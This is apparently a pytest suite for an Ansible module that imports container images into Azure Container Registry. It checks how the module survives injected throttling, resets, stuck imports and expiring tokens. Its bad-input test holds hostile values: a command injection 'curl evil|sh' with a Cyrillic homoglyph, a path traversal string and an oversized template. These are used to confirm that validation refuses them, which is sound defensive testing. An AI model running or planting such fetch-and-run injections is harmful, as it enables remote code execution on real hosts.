# Copyright (c) 2026 acrops.registry contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Faults survived: throttling, 5xx bursts, connection resets, failing and stuck imports, expiring tokens.

Every test injects faults into the stand-in, runs acr_import through real ansible-playbook (batch runs, so that one
run exercises several faults), and then checks the END STATE: what the registries' storage holds (read straight from
the distribution processes), how many importImage calls reached the service, and that every fault really fired.
"""

from __future__ import annotations

import os
import random
import statistics
import threading
import time

import pytest

from standin_reads import acr, import_calls, login_server, operations

pytestmark = pytest.mark.usefixtures("standin_clean")

SMALL = dict(platforms="linux/amd64", size=256)   # quick to push; the import path is the same as for an index
ARM_HOST = "127.0.0.1"                            # the module talks to ARM and Entra by the arm_endpoint address
DOCKERHUB = "registry-1.docker.io"
RATE_LIMIT_BODY = {"errors": [{"code": "TOOMANYREQUESTS", "message": "You have reached your pull rate limit. You may increase the "
                                                                     "limit by authenticating and upgrading: https://www.docker.com/increase-rate-limit"}]}


def push_library(standin, repo, count, tag="1", **kwargs):
    """count Docker Hub official images library/<repo>-<i>:tag; returns [(source, target repo, digest)]."""
    images = []
    for index in range(count):
        name = "%s-%d" % (repo, index)
        images.append(("%s:%s" % (name, tag), name, standin.push("dockerhub", "library/" + name, tag, **dict(SMALL, **kwargs))))
    return images


def batch(ansible, images, registry="standinacr", **params):
    result, run = ansible.module("acr_import", registry=registry, images=[{"source": source} for source, dummy, dummy2 in images], **params)
    return result, run


def all_hit(standin):
    """Every fault rule fired as often as it was told to (else the test did not test what it says)."""
    rules = standin.control.get("faults")["rules"]
    assert all(rule["hits"] == rule["times"] for rule in rules if rule.get("times")), rules
    return rules


def entries(standin, host=None, method=None, path=None, client="controller"):
    return [e for e in standin.control.log() if (host is None or e["host"] == host) and (method is None or e["method"] == method)
            and (path is None or path in e["path"]) and (client is None or e["client"] == client)]


def assert_landed(standin, result, images, run):
    assert not result.get("failed"), (result.get("msg"), run)
    for source, repo, digest in images:
        assert acr(standin, repo, "1") == digest, source


# ---- Resource Manager --------------------------------------------------------------------------------------------
def test_arm_throttling_5xx_bursts_and_resets_are_survived_with_bounded_retries(standin, ansible, repo):
    images = push_library(standin, repo, 3)
    importimage = r"(?i)/importImage$"
    standin.control.faults([
        # importImage: throttled with Retry-After (azure-core waits), then reset mid-request, then throttled without
        # Retry-After (azure-core does not repeat a POST: the module re-reads and re-plans, then imports).
        {"host": ARM_HOST, "method": "POST", "path_regex": importimage, "status": 429, "headers": {"Retry-After": "2"},
         "body": {"error": {"code": "TooManyRequests", "message": "Too many requests, retry after 2 s"}}, "times": 1},
        {"host": ARM_HOST, "method": "POST", "path_regex": importimage, "action": "reset", "times": 1},
        {"host": ARM_HOST, "method": "POST", "path_regex": importimage, "status": 429, "times": 1},
        # A 503 burst on the registry lookup, resets while polling the operation, and an Entra token service hiccup.
        {"host": ARM_HOST, "method": "GET", "path_regex": r"(?i)/registries$", "status": 503, "times": 2},
        {"host": ARM_HOST, "method": "GET", "path_regex": r"(?i)/operationResults/", "action": "reset", "times": 1},
        {"host": ARM_HOST, "method": "POST", "path_regex": r"/oauth2/v2\.0/token$", "status": 503, "times": 2},
    ])
    result, run = batch(ansible, images, concurrency=1)
    assert_landed(standin, result, images, run)
    assert result["counts"]["imported"] == 3, run
    all_hit(standin)
    # Exactly one import reached the service per image: a faulted POST never started one, and no retry doubled one.
    assert import_calls(standin) == 3
    posts = entries(standin, ARM_HOST, "POST", "/importImage")
    assert [e["status"] for e in posts] == [429, "reset", 429, 202, 202, 202], posts
    # Retry-After was honoured: the next POST came at least 2 s after the 429 that asked for it.
    assert posts[1]["time"] - posts[0]["time"] >= 1.95, posts[:2]
    assert any("retrying" in w for w in result["results"][0]["warnings"]), result["results"][0]


# ---- data plane: sources and the target ACR ----------------------------------------------------------------------
def test_data_plane_resets_and_5xx_are_survived(standin, ansible, repo):
    images = push_library(standin, repo, 2)
    login = login_server(standin)
    standin.control.faults([
        {"host": ARM_HOST, "method": "GET", "path_regex": "^/metadata/endpoints", "status": 503, "times": 1},
        {"host": DOCKERHUB, "method": "GET", "path_regex": "^/token", "status": 503, "times": 2, "client": "controller"},
        {"host": DOCKERHUB, "method": "HEAD", "path_regex": "/manifests/", "action": "reset", "times": 2, "client": "controller"},
        {"host": login, "method": "POST", "path_regex": "^/oauth2/exchange$", "status": 502, "times": 1},
        {"host": login, "method": "POST", "path_regex": "^/oauth2/token$", "action": "reset", "times": 1},
        {"host": login, "method": "GET", "path_regex": "/_tags/", "action": "reset", "times": 2, "client": "controller"},
    ])
    result, run = batch(ansible, images, concurrency=2)
    assert_landed(standin, result, images, run)
    all_hit(standin)
    assert import_calls(standin) == 2


def test_source_rate_limit_backs_off_and_a_persistent_one_fails_alone_recommending_credentials(standin, ansible, repo):
    images = push_library(standin, repo, 4)
    limited_once, limited, free = images[0], images[1], images[2:]
    standin.control.faults([
        {"host": DOCKERHUB, "method": "HEAD", "path_regex": "/library/%s/manifests/" % limited_once[1], "status": 429,
         "headers": {"Retry-After": "1"}, "body": RATE_LIMIT_BODY, "times": 2, "client": "controller"},
        {"host": DOCKERHUB, "method": "HEAD", "path_regex": "/library/%s/manifests/" % limited[1], "status": 429,
         "headers": {"Retry-After": "1"}, "body": RATE_LIMIT_BODY, "client": "controller"},
    ])
    result, run = batch(ansible, images, concurrency=4)
    assert result.get("failed"), run
    by_source = dict((r["source"], r) for r in result["results"])
    failed = by_source["docker.io/library/" + limited[0]]
    assert failed["failed"] and "429" in failed["msg"], failed
    assert "rate" in failed["msg"] and "source_username/source_password" in failed["msg"], failed["msg"]
    assert result["counts"]["failed"] == 1 and result["counts"]["imported"] == 3, run
    for source, name, digest in [limited_once] + free:
        assert acr(standin, name, "1") == digest, source
    assert acr(standin, limited[1], "1") is None
    assert import_calls(standin) == 3, "nothing is imported for the image whose source could not be read"
    # Bounded: the first try and four retries, each after the Retry-After the registry asked for.
    heads = entries(standin, DOCKERHUB, "HEAD", "/library/%s/" % limited[1])
    assert len(heads) == 5 and all(e["status"] == 429 for e in heads), heads
    assert all(b["time"] - a["time"] >= 0.95 for a, b in zip(heads, heads[1:])), [e["time"] for e in heads]
    once = [e["status"] for e in entries(standin, DOCKERHUB, "HEAD", "/library/%s/" % limited_once[1])]
    assert once[:2] == [429, 429] and 429 not in once[2:] and once[-1] == 200, once   # (a 401 may come between: the challenge)


# ---- the import operation ----------------------------------------------------------------------------------------
def test_import_failures_transient_retried_permanent_reported_once_with_the_service_words_and_a_hint(standin, ansible, repo):
    images = push_library(standin, repo, 4)
    transient, unauthorized, missing, plain = images
    # The first import fails with "Error copying blobs" (transient); the import service itself is refused by the source
    # for one image (401) and finds no manifest for another (404): the service's permanent failures, as recorded.
    standin.control.import_behaviour(fail_times=1)
    standin.control.faults([
        {"host": DOCKERHUB, "client": "acr-import", "method": "GET", "path_regex": "/library/%s/manifests/" % unauthorized[1],
         "status": 401, "body": {"errors": [{"code": "UNAUTHORIZED", "message": "authentication required"}]}},
        {"host": DOCKERHUB, "client": "acr-import", "method": "GET", "path_regex": "/library/%s/manifests/" % missing[1],
         "status": 404, "body": {"errors": [{"code": "MANIFEST_UNKNOWN", "message": "manifest unknown"}]}},
    ])
    result, run = batch(ansible, images, concurrency=1)
    assert result.get("failed") and result["counts"]["failed"] == 2, run
    results = dict((r["source"], r) for r in result["results"])
    for (source, name, digest), detail, hint in (
            (unauthorized, 'Invalid message Unauthorized Unauthorized {"errors":[{"code":"UNAUTHORIZED","message":"authentication '
                           'required"}]}', "source_username/source_password"),
            (missing, "Unable to find manifest digest  Repo: library/%s Digest: %s" % (missing[1], missing[2]), "does not exist in the source")):
        failed = results["docker.io/library/" + source]
        assert detail in failed["msg"], "the service's own words are reported: %s" % failed["msg"]
        assert "Hint:" in failed["msg"] and hint in failed["msg"], failed["msg"]
        assert failed["targets"][0]["action"] == "failed" and acr(standin, name, "1") is None
        assert not failed["warnings"], "a permanent failure is not retried: %s" % failed["warnings"]
    for source, name, digest in (transient, plain):
        assert acr(standin, name, "1") == digest and not results["docker.io/library/" + source]["failed"]
    assert any("transiently" in w for w in results["docker.io/library/" + transient[0]]["warnings"])
    # One call per image, plus exactly one more for the transient failure: permanent failures are not retried.
    assert import_calls(standin) == 5
    per_image = dict((name, [op["status"] for op in operations(standin, "library/%s@" % name)]) for dummy, name, dummy2 in images)
    assert per_image == {transient[1]: ["Failed", "Succeeded"], unauthorized[1]: ["Failed"], missing[1]: ["Failed"],
                         plain[1]: ["Succeeded"]}, per_image


def test_a_stuck_import_times_out_with_its_operation_and_the_next_run_reads_the_true_state(standin, ansible, repo, wait_for):
    images = push_library(standin, repo, 1)
    standin.control.import_behaviour(stuck=True)
    result, run = batch(ansible, images, timeout=2)
    assert result.get("failed"), run
    image = result["results"][0]
    operation = operations(standin, repo)[0]
    assert operation["status"] == "Accepted", operation
    assert "did not finish within 2 s" in image["msg"] and operation["name"] in image["msg"], image["msg"]
    assert operation["name"] in image["operation_url"] and "next run reads the true state" in image["msg"]
    # It gave up on its own bound (the module's clock, at least the 2 s asked for), not on the import's end: the stand-in
    # still holds the operation (Accepted, above). No upper bound: a loaded machine makes any wall-clock limit flaky.
    assert image["elapsed"] >= 2, image["elapsed"]
    assert acr(standin, images[0][1], "1") is None

    # The service finishes the import later; the next run finds it done and imports nothing.
    standin.control.import_behaviour(stuck=False)
    wait_for(lambda: operations(standin, repo)[0]["status"] == "Succeeded")
    assert acr(standin, images[0][1], "1") == images[0][2]
    again, run = batch(ansible, images)
    assert not again.get("failed") and again["changed"] is False, run
    assert again["results"][0]["targets"][0]["action"] == "unchanged"
    assert import_calls(standin) == 1


# ---- tokens ------------------------------------------------------------------------------------------------------
def test_tokens_that_expire_mid_run_by_lifetime_or_clock_jump_are_renewed(standin, ansible, repo, wait_for):
    images = push_library(standin, repo, 3)
    # Entra, ACR refresh and ACR access tokens live 2 s and each import takes 1 s: they expire between images.
    standin.control.settings(entra_token_lifetime=2, acr_refresh_token_lifetime=2, acr_access_token_lifetime=2)
    standin.control.import_behaviour(delay=1.0)
    # Mid-run: the first image is in place and the second one's importImage request is held before the stand-in serves it;
    # then the server's clock jumps 3.3 hours (every token issued before, source registry tokens included, is now expired)
    # and the request is served. The source reads ran ahead at the start of the run: the jump cannot be tied to one of them.
    importimage = r"(?i)/importImage$"
    standin.control.faults([
        {"host": ARM_HOST, "method": "POST", "path_regex": importimage, "action": "delay", "delay": 0, "times": 1, "client": "controller"},
        {"host": ARM_HOST, "method": "POST", "path_regex": importimage, "action": "hold-request", "times": 1, "client": "controller"}])
    problems = []

    def jump():
        try:
            wait_for(lambda: standin.control.get("faults")["rules"][1]["hits"] >= 1, timeout=120)
            statuses = [op["status"] for op in operations(standin, repo)]
            assert statuses == ["Succeeded"], statuses  # mid-run: the first image done, the second not started
            standin.control.time_skew(12000)
        except Exception as exc:  # pylint: disable=broad-exception-caught  # the test thread re-raises it
            problems.append(exc)
        finally:
            standin.control.faults([])  # the held answer goes out

    jumper = threading.Thread(target=jump)
    jumper.start()
    result, run = batch(ansible, images, concurrency=1)
    jumper.join()
    if problems:
        raise problems[0]
    assert_landed(standin, result, images, run)
    refused = [e for e in entries(standin) if e["status"] == 401 and not e["route"].startswith(("arm:", "entra:", "metadata"))
               and "Bearer" in e["headers"].get("Authorization", "")]
    assert refused, "no token expired: the test tested nothing"
    # The held importImage went out with a token that expired on the way: refused 401 ExpiredAuthenticationToken, then the
    # whole operation again with a new token (one import per image all the same).
    expired = [e for e in entries(standin, ARM_HOST, "POST", "/importImage") if e["status"] == 401]
    assert len(expired) == 1, [(e["route"], e["status"]) for e in entries(standin, ARM_HOST, "POST", "/importImage")]
    assert import_calls(standin) == 3
    tokens = standin.control.counters()["token_requests"]
    assert tokens["acr_exchange"] >= 2, tokens   # the ACR refresh token was renewed, not used after it expired


# ---- bad input never reaches the network -------------------------------------------------------------------------
def test_bad_input_is_refused_before_any_request(standin, ansible):
    digest = "sha256:" + "a" * 64
    # A sample of each class (tests/unit/plugins/modules/test_acr_import_validation.py has the whole matrix).
    bad = [
        dict(source="nginx:1", source_username="bot", cloud_environment="AzureMoonCloud", concurrency=0),
        dict(images=[{"source": "nginx:1", "targets": ["web:1@" + digest]}, {"source": "ghcr.io/org/app:1", "source_registry": "devacr"}]),
        dict(source="nginx:1", registry="standinacr\n", resource_group="../../providers"),
        dict(source="ngi\u043dx:1;curl evil|sh"),
        dict(source="nginx:1", targets=["{{ 'a' * 10485760 }}"]),
    ]
    tasks = [{"acrops.registry.acr_import": dict({"registry": "standinacr"}, **params)} for params in bad]
    run = ansible.tasks(tasks)
    for index, params in enumerate(bad):
        result = run.results["r%d" % index]
        assert result.get("failed") and result.get("changed") is False, (params, result)
        assert 0 < len(result["msg"]) < 1500, (params, result["msg"][:300])
    requests = [e for e in standin.control.log() if not e["path"].startswith("/_standin")]
    assert requests == [], "validation must fail before any request: %s" % requests[:3]
    assert import_calls(standin) == 0


# ---- load (opt-in) -----------------------------------------------------------------------------------------------
@pytest.mark.slow
@pytest.mark.skipif(os.environ.get("ACROPS_SLOW") != "1", reason="load test: set ACROPS_SLOW=1")
def test_load_1000_images_with_5_percent_failures(standin, ansible, repo, capsys):
    count, concurrency = 1000, 16
    rng = random.Random(1000)
    sample = rng.sample(range(count), count // 20 + count // 50 + count // 100)
    refused = set(sample[:count // 20])                                    # 5%: the source refuses the import service
    proxied = set(sample[count // 20:count // 20 + count // 50])           # 2%: a proxy's HTML page answers their target tag read
    throttled = set(sample[count // 20 + count // 50:])                    # 1%: the source asks for two hours before a retry
    failing = refused | proxied | throttled
    started = time.monotonic()
    images = push_library(standin, repo, count, size=64)
    pushed = time.monotonic() - started
    # 5% fail permanently: the import service is refused by the source for those repositories (not retried);
    # 2% more fail once with "Error copying blobs" (retried, they land). Hostile answers (issue 20) fail their images alone,
    # before any import: an HTML page with 200 for the target tag read, and a 429 with Retry-After: 7200 on the source HEAD.

    def names(indexes):
        return "|".join(images[i][1] for i in sorted(indexes))

    standin.control.faults([
        {"host": DOCKERHUB, "client": "acr-import", "method": "GET", "path_regex": "/library/(%s)/manifests/" % names(refused),
         "status": 403, "body": {"errors": [{"code": "DENIED", "message": "requested access to the resource is denied"}]}},
        {"host": login_server(standin), "client": "controller", "method": "GET", "path_regex": "/acr/v1/(%s)/_tags/" % names(proxied),
         "status": 200, "headers": {"Content-Type": "text/html"}, "body": "<html><body>Sign in to the proxy</body></html>"},
        {"host": DOCKERHUB, "client": "controller", "method": "HEAD", "path_regex": "/library/(%s)/manifests/" % names(throttled),
         "status": 429, "headers": {"Retry-After": "7200"}, "body": RATE_LIMIT_BODY},
    ])
    standin.control.import_behaviour(fail_times=count // 50)
    standin.control.settings(dockerhub_pull_limit=10 * count)   # the import service's manifest GETs count against it
    started = time.monotonic()
    result, run = batch(ansible, images, concurrency=concurrency, keep_going=True)
    wall = time.monotonic() - started
    counts = result["counts"]
    failed = [i for i, r in enumerate(result["results"]) if r.get("failed")]
    assert set(failed) == failing, (sorted(set(failed) ^ failing)[:10], run)
    assert counts["imported"] == count - len(failing)
    codes = dict((i, result["results"][i].get("error_code")) for i in failed)
    assert set(codes[i] for i in throttled) == {"TOOMANYREQUESTS"}, [result["results"][i]["msg"] for i in sorted(throttled)][:3]
    assert all("7200" in result["results"][i]["msg"] for i in throttled)
    proxy_messages = [result["results"][i]["msg"] for i in sorted(proxied)]
    assert all("not JSON" in msg and login_server(standin) in msg for msg in proxy_messages), proxy_messages[:3]
    calls = import_calls(standin)
    assert calls == count - len(proxied) - len(throttled) + count // 50, "one call per image that got past its reads, one more per transient failure"
    for index in rng.sample(sorted(set(range(count)) - failing), 25):
        assert acr(standin, images[index][1], "1") == images[index][2]
    elapsed = sorted(r["elapsed"] for r in result["results"])

    counters = standin.control.counters()  # of the first run
    # The cause goes away; one re-run imports exactly the images that failed and leaves every image correct.
    standin.control.faults([])
    before_rerun = import_calls(standin)
    started = time.monotonic()
    rerun, run = batch(ansible, images, concurrency=concurrency, keep_going=True)
    rerun_wall = time.monotonic() - started
    assert not rerun.get("failed"), run
    assert rerun["counts"]["imported"] == len(failing) and rerun["counts"]["unchanged"] == count - len(failing), rerun["counts"]
    assert import_calls(standin) - before_rerun == len(failing)
    for index in failing:
        assert acr(standin, images[index][1], "1") == images[index][2]
    figures = {
        "images": count, "concurrency": concurrency, "failed": len(failed), "refused": len(refused), "proxied": len(proxied),
        "throttled": len(throttled), "imported": counts["imported"], "import_calls": calls,
        "push_s": round(pushed, 1), "run_wall_s": round(wall, 1), "images_per_s": round(count / wall, 1),
        "per_image_p50_s": round(statistics.median(elapsed), 3), "per_image_p95_s": round(elapsed[int(0.95 * count)], 3),
        "rerun_wall_s": round(rerun_wall, 1),
        "arm_requests": counters["arm_requests"],
        "controller_requests": sum(v for k, v in counters["client_requests"].items() if k.startswith("controller ")),
    }
    with capsys.disabled():
        print("\nLOAD FIGURES %s" % figures)
